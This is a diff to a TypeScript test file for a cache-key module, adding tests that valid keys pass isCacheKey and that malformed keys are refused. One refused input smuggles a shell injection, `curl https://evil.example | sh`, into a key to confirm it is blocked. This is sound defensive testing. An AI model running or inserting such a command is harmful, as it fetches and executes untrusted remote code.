@@ -5,7 +5,9 @@ import {
   CacheKeyError,
   cacheKey,
   cacheKeyPrefix,
+  isCacheKey,
   resolutionHash,
+  shownForeignKey,
 } from '../../src/cache/cache-key.js';
 import type { Resolution } from '../../src/provider/resolution.js';
 import { resolutionOf, sha256Of, type FileSpec } from '../helpers/resolutions.js';
@@ -133,5 +135,46 @@ describe('cacheKey', () => {
 
   it('gives an empty resolution a stable key (sha256 of nothing)', () => {
     expect(resolutionHash({ packages: [] })).toBe(sha256Of(''));
+  });
+});
+
+// Review 2 (s12) #6: a key read back from a store is accepted only when it is one cacheKey makes.
+describe('isCacheKey', () => {
+  it('accepts every key cacheKey makes, for odd targets and suffixes too', () => {
+    const r = resolutionOf(specs);
+    const targets = [
+      target,
+      { os: 'Windows', arch: 'AMD64', implementation: 'PP', pythonVersion: '3.10.2' },
+      { os: 'mac os', arch: 'arm64', implementation: 'gp', pythonVersion: '10.0' },
+      { os: 'lïnux', arch: 'x.6_4', implementation: 'c-p', pythonVersion: '3.9' },
+    ];
+    for (const t of targets)
+      for (const suffix of [undefined, '', 'a', ' team,a-b c ', 'Ünïcode`$(x)\n', 'x'.repeat(400)]) {
+        const k = cacheKey(r, t, suffix);
+        expect([k.key, isCacheKey(k.key)]).toEqual([k.key, true]);
+      }
+  });
+
+  it('refuses any other text: control characters, backticks, spaces, a wrong digest, an over-long key', () => {
+    const k = cacheKey(resolutionOf(specs), target).key;
+    const prefix = k.slice(0, -CACHE_KEY_DIGEST_LENGTH);
+    for (const text of [
+      '',
+      `${k}\n`,
+      `${prefix}x\` "; curl https://evil.example | sh`,
+      `${prefix}${'A'.repeat(CACHE_KEY_DIGEST_LENGTH)}`,
+      `${prefix}${'0'.repeat(CACHE_KEY_DIGEST_LENGTH - 1)}`,
+      `${prefix}${'0'.repeat(CACHE_KEY_DIGEST_LENGTH + 1)}`,
+      k.replace('-v1-', '-v2-'),
+      k.replace('cp312', 'cp 312'),
+      k.replace('linux', 'linux\u0000'),
+      `wheelhouse-v1-linux-x64-cp312_${'x'.repeat(470)}-${'0'.repeat(CACHE_KEY_DIGEST_LENGTH)}`,
+    ])
+      expect([text, isCacheKey(text)]).toEqual([text, false]);
+  });
+
+  it('shows a foreign key quoted and at most 100 characters long', () => {
+    expect(shownForeignKey('a\nb`')).toBe('"a\\nb`"');
+    expect(shownForeignKey('x'.repeat(5000))).toBe(`"${'x'.repeat(100)}"…`);
   });
 });
